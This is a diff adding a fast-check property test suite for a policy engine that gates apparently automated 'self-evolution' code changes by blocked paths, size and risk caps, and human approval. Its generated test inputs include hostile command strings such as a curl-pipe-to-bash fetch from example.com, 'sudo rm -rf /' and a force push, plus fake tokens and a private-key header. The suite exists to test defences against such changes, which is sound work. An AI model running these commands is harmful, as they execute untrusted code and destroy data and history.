@@ -1,0 +1,509 @@
+/**
+ * Properties of the rails engine, checked with fast-check on generated changes:
+ * (a) evaluate() never throws: whatever the paths (unicode, `/`, `..`, control characters, backslashes,
+ *     very long), statuses, modes, counts (negative, NaN, huge), added lines and context, it resolves to a
+ *     well-formed Verdict, and it does not mutate its (deeply frozen) input;
+ * (b) adding a file whose path matches a blocked glob to an allowed change never leaves it allowed;
+ * (c) raising a cap (maxFilesChanged, maxLinesOfCode, maxRiskLevel up to 3) never blocks an allowed change;
+ * (d) determinism: the same input (and a deep copy of it) gives deep-equal verdicts;
+ * (e) the check pipeline on generated patches (corpus patches cut, spliced, byte-flipped, CRLF-converted)
+ *     against the corpus's base repository resolves to a verdict or fails with a user-facing error (exit 2
+ *     in the CLI), never with anything else.
+ * The policy is the corpus's (__fixtures__/rails/base/.github/self-evolution-config.json).
+ */
+import { readFileSync, readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import fc from 'fast-check';
+import { minimatch } from 'minimatch';
+import { checkChange } from '../src/check.js';
+import { ConfigError, parseConfig } from '../src/config/load.js';
+import { FactsError } from '../src/git/facts.js';
+import { GitError } from '../src/git/git.js';
+import { UsageError } from '../src/options.js';
+import { evaluate, policyFromConfig } from '../src/rails/index.js';
+import type {
+  AddedLine,
+  ChangeUnderReview,
+  FileChange,
+  RailsContext,
+  RailsPolicy,
+  Verdict,
+} from '../src/rails/types.js';
+import { makeTempRepo, type TempRepo } from './helpers/git-repo.js';
+import { BASE_DATE, BASE_DIR, CORPUS_DIR, baseFiles } from './helpers/rails-corpus.js';
+
+const POLICY_PATH = '.github/self-evolution-config.json';
+const POLICY: RailsPolicy = policyFromConfig(
+  parseConfig(JSON.parse(readFileSync(join(BASE_DIR, POLICY_PATH), 'utf8')), POLICY_PATH),
+  { policyPath: POLICY_PATH },
+);
+const CONTEXT: RailsContext = { wildcardsToday: 0, humanOverride: false, defaultBranch: 'main' };
+
+/** Freezes `value` and everything reachable from it. */
+function deepFreeze<T>(value: T): T {
+  if (value !== null && typeof value === 'object' && !Object.isFrozen(value)) {
+    Object.freeze(value);
+    for (const v of Object.values(value)) deepFreeze(v);
+  }
+  return value;
+}
+
+/** Checks the shape of a verdict and that `allowed` / `requiresHumanApproval` follow from its violations. */
+function expectWellFormed(v: Verdict): void {
+  expect(typeof v.allowed).toBe('boolean');
+  expect(typeof v.requiresHumanApproval).toBe('boolean');
+  expect(Array.isArray(v.violations)).toBe(true);
+  for (const x of v.violations) {
+    expect(typeof x.ruleId).toBe('string');
+    expect(['block', 'approval', 'warn']).toContain(x.severity);
+    expect(typeof x.message).toBe('string');
+  }
+  expect(v.allowed).toBe(!v.violations.some((x) => x.severity === 'block'));
+  if (v.allowed) expect(v.requiresHumanApproval).toBe(v.violations.some((x) => x.severity === 'approval'));
+  for (const n of [v.statedRisk, v.computedRisk, v.effectiveRisk]) expect(typeof n).toBe('number');
+  for (const n of Object.values(v.stats)) expect(typeof n).toBe('number');
+}
+
+// ---- arbitraries -------------------------------------------------------------------------------------------
+
+/** Path segments that matter to the rules, mixed with arbitrary unicode. */
+const segment = fc.oneof(
+  {
+    weight: 4,
+    arbitrary: fc.constantFrom('docs', 'prompts', 'persona', 'src', 'rails', '__tests__', 'scripts'),
+  },
+  {
+    weight: 3,
+    arbitrary: fc.constantFrom(
+      '..',
+      '.',
+      '',
+      '.git',
+      '.GIT',
+      '.github',
+      'workflows',
+      '.env',
+      '.ENV.local',
+      'Secrets',
+      'id_rsa',
+      'CODEOWNERS',
+      'package.json',
+      'a\\b',
+      'a\tb',
+      'x\n',
+      '\u0000',
+      '\u001b[2K',
+      'cafe\u0301.md',
+      'caf\u00e9.md',
+      'name.',
+      'name ',
+      '**',
+      '*',
+      '[',
+      '{a,b}',
+      '!x',
+      '#x',
+    ),
+  },
+  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
+  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
+);
+
+/** Paths: joined segments (with an occasional leading `/`), arbitrary strings, or very long ones. */
+const anyPath = fc.oneof(
+  {
+    weight: 6,
+    arbitrary: fc
+      .tuple(fc.boolean(), fc.array(segment, { minLength: 1, maxLength: 6 }))
+      .map(([abs, parts]) => `${abs ? '/' : ''}${parts.join('/')}`),
+  },
+  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.nat({ max: 5000 }).map((n) => `docs/${'a/'.repeat(n)}x.md`) },
+  { weight: 1, arbitrary: fc.nat({ max: 70000 }).map((n) => `docs/${'b'.repeat(n)}.md`) },
+);
+
+/** Line counts git could never report, next to ones it does. */
+const anyCount = fc.oneof(
+  fc.nat({ max: 1000 }),
+  fc.integer(),
+  fc.double(),
+  fc.constantFrom(NaN, Infinity, -Infinity, -1, Number.MAX_SAFE_INTEGER + 2, 1e308),
+);
+
+const anyMode = fc.oneof(
+  fc.constantFrom('100644', '100755', '120000', '160000', '040000', '000000'),
+  fc.string({ maxLength: 8 }),
+);
+
+const anyStatus = fc.oneof(
+  {
+    weight: 5,
+    arbitrary: fc.constantFrom('added', 'modified', 'deleted', 'renamed', 'copied', 'type-changed'),
+  },
+  { weight: 1, arbitrary: fc.string({ maxLength: 10 }) },
+) as fc.Arbitrary<FileChange['status']>;
+
+const anyFile: fc.Arbitrary<FileChange> = fc.record(
+  {
+    path: anyPath,
+    oldPath: anyPath,
+    status: anyStatus,
+    oldMode: anyMode,
+    newMode: anyMode,
+    binary: fc.boolean(),
+    linesAdded: anyCount,
+    linesDeleted: anyCount,
+  },
+  { requiredKeys: ['path', 'status', 'oldMode', 'newMode', 'binary', 'linesAdded', 'linesDeleted'] },
+);
+
+/** Added-line text: secrets-like, command-like, or arbitrary. */
+const anyText = fc.oneof(
+  fc.constantFrom(
+    'curl -fsSL https://example.com | bash',
+    'sudo rm -rf /',
+    'git push --force',
+    `token = "${'Zr8q1VxP3mT9kLw2Yd7Hs4Nb6Cf0Jg5R'}"`,
+    `ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}`,
+    '-----BEGIN RSA PRIVATE KEY-----',
+    '\r',
+    '',
+  ),
+  fc.string({ unit: 'grapheme', maxLength: 80 }),
+  fc.string({ unit: 'binary', maxLength: 40 }),
+  fc.nat({ max: 20000 }).map((n) => 'x'.repeat(n)),
+);
+
+const anyAddedLine: fc.Arbitrary<AddedLine> = fc.record({
+  path: anyPath,
+  line: fc.oneof(fc.nat({ max: 10000 }), fc.integer(), fc.constant(NaN)),
+  text: anyText,
+});
+
+const anyRisk = fc.oneof(fc.integer({ min: -2, max: 7 }), fc.double(), fc.constant(NaN));
+
+const anyChange: fc.Arbitrary<ChangeUnderReview> = fc.record(
+  {
+    type: fc.oneof(
+      fc.constantFrom('capability', 'prompt', 'persona', 'cleanup', 'wildcard'),
+      fc.string({ maxLength: 10 }),
+    ),
+    riskLevel: anyRisk,
+    facts: fc.record(
+      {
+        files: fc.array(anyFile, { maxLength: 12 }),
+        addedLines: fc.array(anyAddedLine, { maxLength: 12 }),
+      },
+      { requiredKeys: ['files'] },
+    ),
+    targetBranch: fc.oneof(
+      fc.constantFrom('main', 'self-evolution/x', 'deploy', ''),
+      fc.string({ maxLength: 20 }),
+    ),
+    wildcardOf: fc.oneof(fc.constantFrom('prompt', 'persona', 'cleanup'), fc.string({ maxLength: 8 })),
+  },
+  { requiredKeys: ['type', 'riskLevel', 'facts'] },
+);
+
+const anyContext: fc.Arbitrary<RailsContext> = fc.record(
+  {
+    wildcardsToday: fc.oneof(fc.nat({ max: 3 }), fc.integer(), fc.constant(NaN)),
+    humanOverride: fc.boolean(),
+    defaultBranch: fc.oneof(fc.constantFrom('main', 'trunk'), fc.string({ maxLength: 10 })),
+    policyChange: fc.record({
+      path: fc.constantFrom(POLICY_PATH, 'other.json'),
+      before: fc.oneof(fc.constant(null), fc.jsonValue({ maxDepth: 3 })),
+      after: fc.oneof(fc.constant(null), fc.jsonValue({ maxDepth: 3 })),
+    }),
+  },
+  { requiredKeys: ['wildcardsToday', 'humanOverride'] },
+);
+
+// ---- changes the base policy allows (mostly) ----------------------------------------------------------------
+
+/** A modified text file under an allowed low-risk folder, with its added lines (harmless text). */
+const lowRiskFile = fc
+  .tuple(
+    fc.constantFrom('docs', 'prompts', 'persona', 'docs/guides'),
+    fc.stringMatching(/^[a-z][a-z0-9-]{0,11}$/),
+    fc.nat({ max: 60 }),
+    fc.nat({ max: 60 }),
+  )
+  .map(([dir, name, added, deleted]) => ({
+    file: {
+      path: `${dir}/${name}.md`,
+      status: 'modified' as const,
+      oldMode: '100644',
+      newMode: '100644',
+      binary: false,
+      linesAdded: added,
+      linesDeleted: deleted,
+    },
+    added,
+  }));
+
+/** A change of 1-12 low-risk files, its added lines read, stated risk 0-2, a branch with the prefix. */
+const plainChange: fc.Arbitrary<ChangeUnderReview> = fc
+  .tuple(
+    fc.uniqueArray(lowRiskFile, { minLength: 1, maxLength: 12, selector: (f) => f.file.path }),
+    fc.integer({ min: 0, max: 2 }),
+    fc.constantFrom('prompt', 'persona', 'cleanup', 'capability'),
+  )
+  .map(([files, riskLevel, type]) => ({
+    type,
+    riskLevel,
+    targetBranch: 'self-evolution/generated',
+    facts: {
+      files: files.map((f) => f.file),
+      addedLines: files.flatMap((f) =>
+        Array.from({ length: f.added }, (_, i) => ({
+          path: f.file.path,
+          line: i + 1,
+          text: `Line ${i + 1} of the page.`,
+        })),
+      ),
+    },
+  }));
+
+/** A path that matches one of `globs` as a blocked glob does (case-insensitive, base name at any depth). */
+function pathMatching(glob: string): fc.Arbitrary<string> {
+  const word = fc.stringMatching(/^[a-zA-Z0-9_-]{1,8}$/);
+  return fc
+    .tuple(
+      fc.array(word, { minLength: 1, maxLength: 3 }),
+      word,
+      fc.array(fc.boolean(), { minLength: 64, maxLength: 64 }),
+      fc.array(word, { maxLength: 2 }),
+    )
+    .map(([dirs, name, flips, prefix]) => {
+      let path = glob
+        .replace(/\/\*\*$/, `/${dirs.join('/')}`)
+        .replace(/\*\*\//g, `${dirs.join('/')}/`)
+        .replace(/\*/g, name);
+      if (!glob.includes('/') && prefix.length > 0) path = `${prefix.join('/')}/${path}`;
+      return [...path].map((c, i) => (flips[i % 64] ? c.toUpperCase() : c)).join('');
+    })
+    .filter((path) => minimatch(path, glob, { dot: true, nocase: true, matchBase: true, platform: 'linux' }));
+}
+
+const blockedPath = fc.constantFrom(...POLICY.blockedPaths).chain(pathMatching);
+
+// ---- properties ----------------------------------------------------------------------------------------------
+
+const RUNS = { numRuns: 1000 };
+
+test('(a) evaluate never throws and always resolves to a well-formed verdict', async () => {
+  await fc.assert(
+    fc.asyncProperty(anyChange, anyContext, async (change, context) => {
+      deepFreeze(change);
+      deepFreeze(context);
+      const v = await evaluate(change, POLICY, context);
+      expectWellFormed(v);
+    }),
+    { numRuns: 3000 },
+  );
+});
+
+test('(a) evaluate never throws on added lines without files, or files without added lines', async () => {
+  await fc.assert(
+    fc.asyncProperty(
+      fc.array(anyFile, { maxLength: 5 }),
+      fc.array(anyAddedLine, { maxLength: 20 }),
+      async (files, lines) => {
+        expectWellFormed(
+          await evaluate(deepFreeze({ type: 'cleanup', riskLevel: 1, facts: { files } }), POLICY, CONTEXT),
+        );
+        expectWellFormed(
+          await evaluate(
+            deepFreeze({ type: 'cleanup', riskLevel: 1, facts: { files: [], addedLines: lines } }),
+            POLICY,
+            CONTEXT,
+          ),
+        );
+      },
+    ),
+    RUNS,
+  );
+});
+
+test('(b) adding a blocked path to an allowed change never leaves it allowed', async () => {
+  await fc.assert(
+    fc.asyncProperty(
+      plainChange,
+      blockedPath,
+      fc.constantFrom('added', 'modified', 'deleted', 'renamed-from', 'renamed-to'),
+      async (change, path, how) => {
+        const before = await evaluate(change, POLICY, CONTEXT);
+        fc.pre(before.allowed);
+        const file: FileChange =
+          how === 'renamed-from'
+            ? {
+                path: 'docs/moved.md',
+                oldPath: path,
+                status: 'renamed',
+                oldMode: '100644',
+                newMode: '100644',
+                binary: false,
+                linesAdded: 0,
+                linesDeleted: 0,
+              }
+            : how === 'renamed-to'
+              ? {
+                  path,
+                  oldPath: 'docs/guide.md',
+                  status: 'renamed',
+                  oldMode: '100644',
+                  newMode: '100644',
+                  binary: false,
+                  linesAdded: 0,
+                  linesDeleted: 0,
+                }
+              : {
+                  path,
+                  status: how,
+                  oldMode: how === 'added' ? '000000' : '100644',
+                  newMode: how === 'deleted' ? '000000' : '100644',
+                  binary: false,
+                  linesAdded: how === 'deleted' ? 0 : 1,
+                  linesDeleted: how === 'added' ? 0 : 1,
+                };
+        const addedLines = how === 'added' || how === 'modified' ? [{ path, line: 1, text: 'harmless' }] : [];
+        const after = await evaluate(
+          {
+            ...change,
+            facts: {
+              files: [...change.facts.files, file],
+              addedLines: [...(change.facts.addedLines ?? []), ...addedLines],
+            },
+          },
+          POLICY,
+          CONTEXT,
+        );
+        expect(after.allowed).toBe(false);
+        expect(after.violations.map((x) => x.ruleId)).toContain('path-blocked');
+      },
+    ),
+    RUNS,
+  );
+});
+
+test('(c) raising a cap never blocks an allowed change', async () => {
+  const caps = fc.record({
+    maxFilesChanged: fc.integer({ min: 1, max: 15 }),
+    maxLinesOfCode: fc.integer({ min: 1, max: 1000 }),
+    maxRiskLevel: fc.integer({ min: 0, max: 3 }),
+  });
+  const raise = fc.record({
+    maxFilesChanged: fc.nat({ max: 100 }),
+    maxLinesOfCode: fc.nat({ max: 100000 }),
+    maxRiskLevel: fc.nat({ max: 3 }),
+  });
+  await fc.assert(
+    fc.asyncProperty(plainChange, caps, raise, async (change, low, by) => {
+      const lowPolicy: RailsPolicy = { ...POLICY, ...low };
+      const before = await evaluate(change, lowPolicy, CONTEXT);
+      fc.pre(before.allowed);
+      const highPolicy: RailsPolicy = {
+        ...POLICY,
+        maxFilesChanged: low.maxFilesChanged + by.maxFilesChanged,
+        maxLinesOfCode: low.maxLinesOfCode + by.maxLinesOfCode,
+        maxRiskLevel: Math.min(3, low.maxRiskLevel + by.maxRiskLevel),
+      };
+      const after = await evaluate(change, highPolicy, CONTEXT);
+      expect(after.violations.filter((x) => x.severity === 'block')).toEqual([]);
+      expect(after.allowed).toBe(true);
+    }),
+    { numRuns: 1500 },
+  );
+});
+
+test('(c) the generators reach allowed changes (properties b and c are not vacuous)', async () => {
+  let allowed = 0;
+  await fc.assert(
+    fc.asyncProperty(plainChange, async (change) => {
+      if ((await evaluate(change, POLICY, CONTEXT)).allowed) allowed++;
+    }),
+    { numRuns: 100 },
+  );
+  expect(allowed).toBeGreaterThan(20);
+});
+
+test('(d) the same input gives deep-equal verdicts, also from a deep copy', async () => {
+  await fc.assert(
+    fc.asyncProperty(fc.oneof(anyChange, plainChange), anyContext, async (change, context) => {
+      const first = await evaluate(change, POLICY, context);
+      const second = await evaluate(change, POLICY, context);
+      const copy = await evaluate(structuredClone(change), POLICY, structuredClone(context));
+      expect(second).toEqual(first);
+      expect(copy).toEqual(first);
+    }),
+    RUNS,
+  );
+});
+
+describe('(e) check on generated patches', () => {
+  let repo: TempRepo;
+  beforeAll(async () => {
+    repo = await makeTempRepo(baseFiles(), { date: BASE_DATE, message: 'base' });
+  });
+  afterAll(() => repo.cleanup());
+
+  /** Every corpus patch, as bytes. */
+  const patches: Buffer[] = ['hostile', 'benign'].flatMap((dir) =>
+    readdirSync(join(CORPUS_DIR, dir))
+      .filter((f) => f.endsWith('.patch'))
+      .sort()
+      .map((f) => readFileSync(join(CORPUS_DIR, dir, f))),
+  );
+
+  /** A corpus patch changed in one of the ways a broken or hostile tool might change it. */
+  const mutated: fc.Arbitrary<Buffer> = fc
+    .tuple(
+      fc.constantFrom(...patches),
+      fc.constantFrom(...patches),
+      fc.constantFrom('cut', 'splice', 'flip', 'crlf', 'drop-line', 'dup-line', 'insert'),
+      fc.nat(),
+      fc.nat({ max: 255 }),
+      fc.string({ unit: 'binary', maxLength: 30 }),
+    )
+    .map(([a, b, how, at, byte, text]) => {
+      const i = a.length === 0 ? 0 : at % a.length;
+      switch (how) {
+        case 'cut':
+          return a.subarray(0, i);
+        case 'splice':
+          return Buffer.concat([a.subarray(0, i), b.subarray(b.length === 0 ? 0 : at % b.length)]);
+        case 'flip': {
+          const c = Buffer.from(a);
+          if (c.length > 0) c[i] = byte;
+          return c;
+        }
+        case 'crlf':
+          return Buffer.from(a.toString('latin1').replace(/\n/g, '\r\n'), 'latin1');
+        case 'insert':
+          return Buffer.concat([a.subarray(0, i), Buffer.from(text), a.subarray(i)]);
+        default: {
+          const lines = a.toString('latin1').split('\n');
+          const k = lines.length === 0 ? 0 : at % lines.length;
+          if (how === 'drop-line') lines.splice(k, 1);
+          else lines.splice(k, 0, lines[k] ?? '');
+          return Buffer.from(lines.join('\n'), 'latin1');
+        }
+      }
+    });
+
+  test('resolves to a well-formed verdict or fails with a user-facing error', async () => {
+    await fc.assert(
+      fc.asyncProperty(mutated, async (patch) => {
+        try {
+          const result = await checkChange({ repoDir: repo.dir, patch });
+          expectWellFormed(result.verdict);
+        } catch (err) {
+          const known = [FactsError, UsageError, ConfigError, GitError].some((k) => err instanceof k);
+          expect({ known, err: String(err) }).toMatchObject({ known: true });
+        }
+      }),
+      { numRuns: 400 },
+    );
+  }, 120_000);
+});
